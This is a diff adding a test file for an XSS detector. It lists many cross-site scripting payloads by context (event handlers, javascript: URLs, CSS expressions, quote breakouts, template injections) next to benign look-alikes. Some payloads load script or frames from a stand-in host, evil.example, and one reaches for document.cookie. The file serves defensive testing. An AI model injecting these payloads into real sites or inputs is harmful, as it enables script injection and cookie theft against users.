@@ -1,0 +1,205 @@
+// The contexts one by one, and texts that look like attacks and are none.
+import { describe, expect, it } from 'vitest';
+import { CLIENT_TEMPLATE_BYTES_MAX, MARKUP_REREADS_MAX } from '../../../../src/core/limits.ts';
+import { detectXss } from '../../../../src/detect/html/detect-xss.ts';
+import { markupRuns } from '../../../../src/detect/html/markup.ts';
+
+const ATTACKS: Readonly<Record<string, readonly string[]>> = {
+  'elements that run': [
+    '<script>alert(1)</script>',
+    '<script',
+    '<svg:script>x</svg:script>',
+    '<iframe src=//evil.example>',
+    '<iframe srcdoc="x">',
+    '<frameset><frame src=//evil.example>',
+    '<object data=x>',
+    '<embed src=x>',
+    '<applet code=x>',
+    '<base href=//evil.example/>',
+    '<form action=//evil.example><input>',
+    '<meta http-equiv=refresh content="0;url=//evil.example">',
+    '<meta charset=utf-7>',
+    '<link rel=import href=//evil.example>',
+    '<svg><animate attributeName=href values=x>',
+    '<t:set attributeName="innerHTML" to="x">',
+    '<?xml-stylesheet href="javascript:alert(1)"?>',
+  ],
+  'event handlers': [
+    '<img src=x onerror=alert(1)>',
+    '<img src=x onerror=alert(1)',
+    '<img/src=x/onerror=alert(1)>',
+    '<img\fsrc=x\nonerror\t=\ralert(1)>',
+    '<img src="x"onerror="x">',
+    '<p onanything="alert(1)">',
+    '<img src=`x`onerror=alert(1)>',
+  ],
+  'URLs of elements': [
+    '<a href="javascript:alert(1)">',
+    '<a href=" \x01java\tscript\n:alert(1)">',
+    '<a href="&#x6a;avascript&colon;alert(1)">',
+    '<a xlink:href=vbscript:msgbox(1)>',
+    '<img src="javascript:alert(1)">',
+    '<a href="data:text/html,x">',
+    '<embed src="data:image/svg+xml,x">',
+    '<button formaction=javascript:alert(1)>',
+  ],
+  styles: [
+    '<div style="width:expression(alert(1))">',
+    '<p style="x:exp/**/res\\73ion(alert(1))">',
+    '<p style="background:url(javascript:alert(1))">',
+    '<style>p{-moz-binding:url(x)}</style>',
+    '<p style="behavior:url(x.htc)">',
+  ],
+  'text hidden by one reading': [
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<!-- --!><img src=x onerror=alert(1)>',
+    '<!--><img src=x onerror=alert(1)>',
+    '<textarea></textarea><script>alert(1)</script>',
+    '<p title="&lt;img src=x onerror=alert(1)&gt;">',
+  ],
+  'attributes behind a quote': [
+    '" autofocus onfocus=alert(1) x="',
+    "x' onclick='alert(1)",
+    '"/onclick=alert(1)//',
+    '" style="x:expression(alert(1))',
+    '" href="javascript:alert(1)',
+    '" formaction="javascript:alert(1)',
+    '" srcdoc="x',
+  ],
+  'attributes behind a space': ['x onclick=alert(1)', 'onclick=alert(1)', 'x\tonload=alert`1`//'],
+  'whole values as URLs': [
+    'javascript:alert(1)',
+    ' java\nscript:alert(1)',
+    'javascript://x\nalert(1)',
+    'vbscript:msgbox(1)',
+    'data:text/html;base64,PHNjcmlwdD4=',
+    'data:text/html,x',
+    'javascript&colon;alert(1)',
+  ],
+  'strings of scripts': [
+    "';alert(1)//",
+    '"-alert(1)-"',
+    "');find(1);//",
+    "'+document.cookie+'",
+    "\\';alert(1)//",
+    '&#39;-alert(1)-&#39;',
+    '${alert(1)}',
+    '`-alert(1)-`',
+    '</script>',
+  ],
+  scripts: [
+    'alert(1)',
+    'prompt(document.domain)',
+    'eval(atob("YQ=="))',
+    'onerror=alert;throw 1',
+    "window['al'+'ert'](1)",
+    "[].filter.constructor('alert(1)')()",
+    '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]',
+    "import('//evil.example/x.js')",
+    'String.fromCharCode(88,83,83)',
+    "document.write('x')",
+    "location='javascript:alert(1)'",
+  ],
+  'templates of client frameworks': [
+    "{{constructor.constructor('alert(1)')()}}",
+    "{{$on.constructor('alert(1)')()}}",
+    '{{alert(1)}}',
+    '[[x.__proto__.y=1]]',
+    '<b ng-focus="$event.view.alert(1)">',
+    '<b v-html="x" @click="alert(1)">',
+  ],
+};
+
+const ORDINARY: Readonly<Record<string, readonly string[]>> = {
+  'comparisons and signs': [
+    'a < b and c > d',
+    '<3',
+    '1<2',
+    'x<y && y>z',
+    'if (a<b and one=2) c>d',
+    '<-',
+    '<',
+    '<>',
+  ],
+  'mail and generics': [
+    'Ann <ann@example.com>',
+    'List<String> x = new ArrayList<String>()',
+    'Map<string, object>',
+    'Promise<void>',
+    '<https://example.com/?a=b>',
+  ],
+  'markup that shows': [
+    '<p>A <b>bold</b> <a href="https://example.com/?a=1&amp;b=2" target="_blank">link</a></p>',
+    '<img src="https://example.com/a.png" alt="A cat" width=20>',
+    '<img src="data:image/png;base64,iVBORw0KGgo=">',
+    '<img src="data:image/svg+xml;utf8,%3Csvg/%3E">',
+    '<ul style="scroll-behavior: smooth; color: rgb(1,2,3)"><li>x</ul>',
+    '<style>p { color: red } @import url(x.css);</style>',
+    '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>',
+    '<form action="/search"><input name=q></form>',
+    '<meta charset="utf-8"><link rel="stylesheet" href="a.css">',
+    '<a href="javascript:void(0)">x</a><a href="javascript:;">y</a>',
+    '<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>',
+    '<!-- a comment --> <!DOCTYPE html>',
+    '<object> is a word, <iframe> another',
+  ],
+  prose: [
+    'javascript: the good parts',
+    'javascript: the good parts (2nd edition)',
+    'Use onclick to call something, and one = two.',
+    "He asked 'why'; find out. 'Print' (or not).",
+    '"Alert" - the document said.',
+    'Use the alert (see page 3) to confirm (yes/no).',
+    'confirm (yes/no)',
+    "James' (first) book; O'Neil's (second)",
+    '5\' 6" tall (or so)',
+    '"once" only=1',
+    'The document.cookie property is explained here.',
+    'A `list` item or `)`. Then (perhaps) `more`.',
+    'data: text, html',
+  ],
+  'code and data': [
+    "f'(x) + g(x) = 2g(x)",
+    'sin(x)+1',
+    'Math.max(1,2)',
+    'for (i=0;i<n;i++) a[i]=b(i);',
+    "print('hello')",
+    '{"a":"b","onclick":"f"}',
+    '["a","b (c)"]',
+    "select * from t where a='x' and f(b)='y'",
+    '${HOME}/bin ${user.name()}',
+    '{{name}} {{ user.name }} {{ items | json }}',
+    '[[Wiki link]] [a](https://example.com)',
+    'String.fromCharCode(code + 32)',
+    '<b v-if="shown" :key="id">x</b>',
+    'https://example.com/?a=b&c=d:(e)',
+    'swal.alert("x")',
+    '1.2.3 (2024-01-01)',
+  ],
+};
+
+describe.each(Object.entries(ATTACKS))('detects %s', (_, values) => {
+  it.each(values)('%j', (value) => expect(detectXss(value)).toBe(true));
+});
+
+describe.each(Object.entries(ORDINARY))('leaves %s alone', (_, values) => {
+  it.each(values)('%j', (value) => expect(detectXss(value)).toBe(false));
+});
+
+it(`reads what attributes hide ${MARKUP_REREADS_MAX} deep and no deeper`, () => {
+  const hidden = (depth: number): string => {
+    let markup = '<img src=x onerror=alert(1)>';
+    for (let level = 0; level < depth; level++) {
+      markup = `<p title="${markup.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')}">`;
+    }
+    return markup;
+  };
+  expect(markupRuns(hidden(MARKUP_REREADS_MAX), 0)).toBe(true);
+  expect(markupRuns(hidden(MARKUP_REREADS_MAX + 1), 0)).toBe(false);
+});
+
+it(`reads ${CLIENT_TEMPLATE_BYTES_MAX} bytes of an expression`, () => {
+  const expression = (before: number): string => `{{${'x '.repeat(before / 2)}.constructor.constructor(1)}}`;
+  expect(detectXss(expression(CLIENT_TEMPLATE_BYTES_MAX / 2))).toBe(true);
+  expect(detectXss(expression(CLIENT_TEMPLATE_BYTES_MAX))).toBe(false);
+});
